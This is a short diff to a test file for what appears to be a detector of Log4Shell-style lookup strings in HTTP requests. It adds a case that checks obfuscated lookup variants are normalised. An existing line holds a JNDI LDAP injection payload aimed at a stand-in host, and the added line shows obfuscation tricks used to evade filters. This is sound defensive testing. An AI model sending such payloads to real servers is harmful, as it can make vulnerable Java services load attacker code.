@@ -79,6 +79,7 @@ describe('readings', () => {
       shows(`GET /?x=${encodeURIComponent(text)} HTTP/1.1\r\n\r\n`, '${jndi:ldap://192.0.2.1/a}');
     }
     assert.equal(foldLookups(Buffer.from('${env:HOME} ${date:yyyy} $x {y}')), undefined);
+    assert.equal(foldLookups(Buffer.from("${x${lower:}${::-j}}${DATE:'é'}${upper:ı${lower:É}}"))?.toString(), '${xj}éIÉ');
   });
 
   it('undo chunked and compressed bodies, also when they break off', () => {
